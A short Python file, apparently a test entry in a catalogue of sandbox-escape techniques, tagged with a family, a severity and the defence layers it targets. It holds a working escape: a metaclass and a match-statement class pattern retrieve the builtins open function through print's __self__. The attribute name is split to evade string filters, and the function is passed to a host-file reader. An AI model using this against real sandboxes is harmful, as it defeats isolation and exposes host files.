# technique: positional class patterns read the attributes that a class names at run time
# family: A
# severity: H
# layers: policy, mount_namespace, landlock
class Meta(type):
    def __instancecheck__(cls, thing):
        return True

class Any(metaclass=Meta):
    __match_args__ = ("__se" + "lf__",)

def trick():
    match print:
        case Any(found):
            return found.open

read_host(trick)
